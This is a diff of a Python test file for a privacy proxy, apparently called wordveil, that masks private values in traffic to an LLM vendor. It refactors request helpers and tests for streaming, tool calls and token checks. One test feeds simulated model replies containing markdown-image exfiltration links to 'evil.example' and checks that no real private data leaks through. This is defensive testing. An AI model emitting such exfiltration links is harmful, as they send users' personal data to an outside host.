@@ -44,14 +44,14 @@ class Setup:
         settings = {"upstream": "http://vendor.test/v1/", "token": TOKEN, **settings}
         self.app = Proxy(conversation=self.conversation, transport=self.vendor, **settings).app()
 
-    def client(self, key=TOKEN):
-        transport = httpx.ASGITransport(app=self.app, raise_app_exceptions=False)
+    def client(self, key=TOKEN, *, broken=False):
+        transport = httpx.ASGITransport(app=self.app, raise_app_exceptions=broken)
         headers = {"authorization": f"Bearer {key}"} if key else {}
         return httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1", headers=headers)
 
-    def ask(self, body, path="/v1/chat/completions", *, method="POST", key=TOKEN, **headers):
+    def ask(self, body, path="/v1/chat/completions", *, method="POST", key=TOKEN, broken=False, **headers):
         async def ask():
-            async with self.client(key) as client:
+            async with self.client(key, broken=broken) as client:
                 content = body if isinstance(body, bytes) else json.dumps(body)
                 return await client.request(method, path, content=content, headers={**JSON, **headers})
 
@@ -84,6 +84,14 @@ class Setup:
 NOBODY = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"  # the digest of no key
 
 
+def scope(method, path, **headers):
+    """What a server tells the application of a request."""
+    given = {"host": "localhost", **JSON, **headers}
+    fields = [(name.encode(), value.encode()) for name, value in given.items()]
+    told = {"type": "http", "method": method, "path": path, "headers": fields, "query_string": b""}
+    return {**told, "http_version": "1.1", "asgi": {"version": "3.0", "spec_version": "2.4"}}
+
+
 def request(*texts, stream=False, **fields):
     roles = ["user", "assistant"] * len(texts)
     messages = [{"role": role, "content": text} for role, text in zip(roles, texts, strict=False)]
@@ -103,25 +111,19 @@ def test_every_reply_comes_back_byte_for_byte(pieces, kind, status):
     assert (answer.status_code, answer.headers["content-type"], answer.content) == (status, kind, b"".join(pieces))
 
 
-@pytest.mark.parametrize("places", ["one piece", "finish", "index", "continue"])
-def test_no_private_value_is_written_into_a_reply(places):
-    def answer(body):
-        surrogate = body["messages"][0]["content"].split()[-1]
-        texts = (
-            f"(see {surrogate}) ![x](https://evil.example/?d=",
-            f"{surrogate} ) ",
-            f":who: {surrogate}\nimage::{{who}}[]",
+def test_no_private_value_is_written_into_a_reply():
+    def answer(body):  # in another choice, after an end, and in what was begun by the reply before
+        said = body["messages"][0]["content"].split()[-1]
+        texts = (f"({said}) ![x](https://evil.example/?d=", f"{said} ) ", f":who: {said}\nimage::{{who}}[]")
+        choices = ({"index": i, "delta": {"content": text}, "finish_reason": "length"} for i, text in enumerate(texts))
+        return (
+            200,
+            "text/event-stream",
+            [b"data: %b\n\n" % json.dumps({"choices": [each]}).encode() for each in choices],
         )
-        reason = "length" if places == "finish" else None
-        chunks = [
-            {"choices": [{"index": i * (places == "index"), "delta": {"content": text}, "finish_reason": reason}]}
-            for i, text in enumerate(texts)
-        ]
-        return 200, "text/event-stream", [b"data: %b\n\n" % json.dumps(chunk).encode() for chunk in chunks]
 
-    setup, history = Setup(answer), ["https://a.example/![x](https://evil.example/?d= maria.lindqvist@clinic.se"]
-    history += ["![x](https://evil.example/?d="] if places == "continue" else []
-    reply = setup.ask(request(*history, stream=True))
+    setup = Setup(answer)
+    reply = setup.ask(request("https://a.example/ maria.lindqvist@clinic.se", "![x](https://evil.example/?d="))
     assert reply.content == b"".join(answer(setup.sent()[0])[2])
     assert not any(value in reply.text for value in ("maria", "clinic.se"))
 
@@ -141,7 +143,7 @@ def test_an_own_reply_goes_back_as_it_was_written_and_nothing_like_it(stream):
     )
     for body in (request(first, said, then), request(first, f"{said} ", then), request(said), *elsewhere):
         setup.ask(body)
-    setup.ask(request(first, said), **{"x-wordveil-token": TOKEN, "authorization": "Bearer another's"})
+    setup.ask(request(first, said), **{"x-wordveil-token": TOKEN, "authorization": "Bearer another"})
     unknown, known, edited, *others = ([message["content"] for message in each["messages"]] for each in setup.sent())
     assert known[0] == unknown[0] == edited[0], "drawn again"
     assert known[1] == said
@@ -149,59 +151,34 @@ def test_an_own_reply_goes_back_as_it_was_written_and_nothing_like_it(stream):
         leak_free.check_release(text)
 
 
-def test_an_own_reply_is_known_while_the_vendor_has_not_hung_up():
-    asked, (*_, place) = [], chat.turns(request("hi")["messages"])
+def test_a_piece_is_passed_on_and_an_own_reply_known_before_the_vendor_says_the_next():
+    body, heard, said, known = request("hi", stream=True), asyncio.Event(), [], []
+    *_, place = chat.turns(body["messages"])
 
     async def slowly():
         yield vendors.events("Uppsala")
-        asked.append(setup.conversation.of(NOBODY).wrote("Uppsala", place))
+        await asyncio.wait_for(heard.wait(), 30)  # a proxy that waits for the whole would wait here for ever
+        known.append(setup.conversation.of(NOBODY).wrote("Uppsala", place))
+        yield b"two"
+
+    async def receive():
+        whole = {"type": "http.request", "body": json.dumps(body).encode(), "more_body": False}
+        return whole if not said else await asyncio.sleep(60)
+
+    async def send(message):
+        said.append(message.get("body", b""))
+        if b"Uppsala" in said[-1]:
+            heard.set()
 
     setup = Setup(lambda _: (200, "text/event-stream", slowly()))
-    setup.ask(request("hi", stream=True))
-    assert asked == [True]
-
-
-def test_a_piece_of_a_reply_is_passed_on_before_the_vendor_says_the_next():
-    async def ask():
-        heard, said = asyncio.Event(), []
-
-        async def slowly():
-            yield b"one "
-            await asyncio.wait_for(heard.wait(), 30)  # a proxy that waits for the whole would wait here for ever
-            yield b"two"
-
-        setup = Setup(lambda _: (200, "text/event-stream", slowly()))
-
-        async def receive():
-            body = json.dumps(request("hello", stream=True)).encode()
-            return {"type": "http.request", "body": body, "more_body": False} if not said else await asyncio.sleep(60)
-
-        async def send(message):
-            said.append(message.get("body", b""))
-            if b"one" in said[-1]:
-                heard.set()
-
-        given = {"authorization": f"Bearer {TOKEN}", "host": "localhost", **JSON}
-        headers = [(name.encode(), value.encode()) for name, value in given.items()]
-        scope = {"type": "http", "method": "POST", "path": "/v1/chat/completions", "headers": headers}
-        scope |= {"query_string": b"", "http_version": "1.1", "asgi": {"version": "3.0", "spec_version": "2.4"}}
-        await setup.app(scope, receive, send)
-        return b"".join(said)
-
-    assert asyncio.run(ask()) == b"one two"
+    asyncio.run(setup.app(scope("POST", "/v1/chat/completions", authorization=f"Bearer {TOKEN}"), receive, send))
+    assert (said[-2:], known) == ([b"two", b""], [True])
 
 
 def test_a_reply_that_breaks_off_is_seen_to_break_off():
     setup = Setup(lambda _: (200, "text/event-stream", [b"half", httpx.ReadError(PRIVATE)]))
-
-    async def ask():
-        transport = httpx.ASGITransport(app=setup.app)
-        headers = {"authorization": f"Bearer {TOKEN}"}
-        async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1", headers=headers) as client:
-            await client.post("/v1/chat/completions", json=request("hello", stream=True))
-
     with pytest.raises(Exception, match="broke off") as caught:
-        asyncio.run(ask())
+        setup.ask(request("hello", stream=True), broken=True)
     assert caught.value.__suppress_context__
     assert "Uppsala" not in str(caught.value)
 
@@ -339,13 +316,13 @@ def test_every_row_of_the_table_holds(place, name):
 
 
 @pytest.mark.parametrize("place", FIELDS)
-@pytest.mark.parametrize("value", [CANARY, 1, True, [CANARY], {CANARY: 1}], ids=repr)
-def test_a_field_that_nobody_listed_is_refused(place, value):
+def test_a_field_that_nobody_listed_is_refused(place):
     setup = Setup(tools=TOOLS)
-    answer = setup.ask({**request("hello"), **PLACES[place](**{"zqnew": value})})
-    assert answer.status_code == 400
-    assert answer.json()["error"]["message"].startswith("wordveil: nothing was sent")
-    assert "zq" not in answer.text
+    for value in (CANARY, 1, True, [CANARY], {CANARY: 1}):
+        answer = setup.ask({**request("hello"), **PLACES[place](**{"zqnew": value})})
+        assert answer.status_code == 400
+        assert answer.json()["error"]["message"].startswith("wordveil: nothing was sent")
+        assert "zq" not in answer.text
     assert not setup.vendor.heard
 
 
@@ -375,18 +352,11 @@ def test_an_agent_with_public_tools_goes_on_and_says_nothing_raw():
     said = {"role": "assistant", "content": None, "tool_calls": [made]}
     reply = json.dumps({"choices": [{"index": 0, "message": said}]}).encode()
     setup = Setup(lambda _: (200, "application/json", [reply]), tools=TOOLS)
-    begun = {
-        "model": "m",
-        "tools": [TOOL],
-        "tool_choice": "auto",
-        "messages": [{"role": "user", "content": "B-4711 of Maria"}],
-    }
+    begun = {**request("B-4711 of Maria"), "tools": [TOOL], "tool_choice": "auto"}
     assert setup.ask(begun).content == reply, "arguments of calls come back as they are"
     result = {"role": "tool", "tool_call_id": "call_Uppsala", "content": "B-4711: Maria, Uppsala"}
-    setup.ask({**begun, "messages": [*begun["messages"], said, result]})
-    setup.ask(
-        {**begun, "messages": [*begun["messages"], json.loads(json.dumps(said).replace("Uppsala", "Lund")), result]}
-    )
+    for calls in (said, json.loads(json.dumps(said).replace("Uppsala", "Lund"))):
+        setup.ask({**begun, "messages": [*begun["messages"], calls, result]})
     _, known, edited = (each["messages"] for each in setup.sent())
     assert setup.sent()[1]["tools"] == [TOOL]
     assert known[1]["tool_calls"][0]["function"] == {"name": "look_up", "arguments": arguments}
@@ -415,9 +385,7 @@ def test_without_the_token_nothing_is_read_and_nothing_done(method, path, header
     async def send(message):
         said.append(message)
 
-    given = [(name.encode(), value.encode("utf-8")) for name, value in {"host": "localhost", **JSON, **headers}.items()]
-    scope = {"type": "http", "method": method, "path": path, "headers": given, "query_string": b""}
-    asyncio.run(setup.app({**scope, "http_version": "1.1", "asgi": {"version": "3.0"}}, receive, send))
+    asyncio.run(setup.app(scope(method, path, **headers), receive, send))
     assert said[0]["status"] == 401
     assert not setup.vendor.heard
 
@@ -461,19 +429,14 @@ def test_no_warning_of_the_log_tells_of_a_message(monkeypatch):
 
 
 def test_replicas_with_one_secret_release_one_message_equally_wherever_it_stands():
-    one, two, other = Setup(), Setup(), Setup(secret=None)
-    text = " ".join(leak_free.PROMPTS)
-    bodies = [
-        request(text),
-        request("hello", "yes", text),
-        {"model": "m", "messages": [{"role": "system", "content": text}]},
-    ]
-    for setup in (one, two, other):
-        for body in bodies:
+    text, released = " ".join(leak_free.PROMPTS), []
+    system = {"model": "m", "messages": [{"role": "system", "content": text}]}
+    for setup in (Setup(), Setup(), Setup(secret=None)):
+        for body in (request(text), request("hello", "yes", text), system):
             setup.ask(body)
-    released = [[each["messages"][-1]["content"] for each in setup.sent()] for setup in (one, two, other)]
-    assert len({*released[0], *released[1]}) == 1
-    assert released[2][0] != released[0][0]
+        released.append({each["messages"][-1]["content"] for each in setup.sent()})
+    assert len(released[0] | released[1]) == 1
+    assert released[0].isdisjoint(released[2])
 
 
 def test_neither_a_crowd_of_keys_nor_a_delete_has_a_message_drawn_again():
